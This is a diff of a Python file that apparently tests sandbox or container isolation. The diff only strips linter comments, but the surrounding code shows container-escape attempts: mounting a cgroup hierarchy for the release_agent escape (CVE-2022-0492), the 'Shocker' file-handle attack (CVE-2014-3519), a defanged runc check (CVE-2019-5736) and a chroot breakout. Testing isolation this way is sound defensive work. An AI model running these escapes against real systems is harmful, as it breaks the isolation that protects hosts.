@@ -49,7 +49,7 @@ def call(name: str, *arguments: int | bytes | ctypes.Array[Any] | None) -> int:
 
 
 def _first(*paths: str) -> str:
-    return next((path for path in paths if os.path.exists(path)), paths[0])  # noqa: PTH110
+    return next((path for path in paths if os.path.exists(path)), paths[0])
 
 
 # --- mounts ---
@@ -95,7 +95,7 @@ def pivot_root() -> None:
 def mount_cgroup_hierarchy() -> None:
     """The first half of an escape by release_agent (CVE-2022-0492)."""
     os.makedirs("/tmp/cgroup", exist_ok=True)
-    v2 = "cgroup2" in open("/proc/filesystems").read() and not os.path.exists("/sys/fs/cgroup/memory")  # noqa: PTH110, PTH123, SIM115
+    v2 = "cgroup2" in open("/proc/filesystems").read() and not os.path.exists("/sys/fs/cgroup/memory")
     kind, data = (b"cgroup2", None) if v2 else (b"cgroup", b"memory")
     call("mount", b"cgroup", b"/tmp/cgroup", kind, 0, data)
 
@@ -243,7 +243,7 @@ def userfaultfd() -> None:
 @attack
 def open_by_handle() -> None:
     """CVE-2014-3519, "Shocker": a file by its number, past every root."""
-    with open("/dev/shm/handle", "w"):  # noqa: PTH123
+    with open("/dev/shm/handle", "w"):
         pass
     handle, number = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.create_string_buffer(8)
     call("name_to_handle_at", _AT_FDCWD, b"/dev/shm/handle", handle, number, 0)
@@ -482,7 +482,7 @@ def open_device_of_image() -> None:
 
 def _change(path: str) -> None:
     """CVE-2019-5736 without its harm: to the mode that the file has. A write gets ETXTBSY as long as it runs."""
-    os.chmod(path, os.stat(path).st_mode & 0o7777)  # noqa: PTH101, PTH116
+    os.chmod(path, os.stat(path).st_mode & 0o7777)
 
 
 @attack
@@ -505,7 +505,7 @@ def break_out_of_chroot() -> str | None:
     for _ in range(64):
         os.chdir("..")
     os.chroot(".")
-    return None if os.path.exists(_given["target"]["outside"]) else "empty"  # noqa: PTH110
+    return None if os.path.exists(_given["target"]["outside"]) else "empty"
 
 
 def _outcome(function: Callable[[], str | None]) -> str:
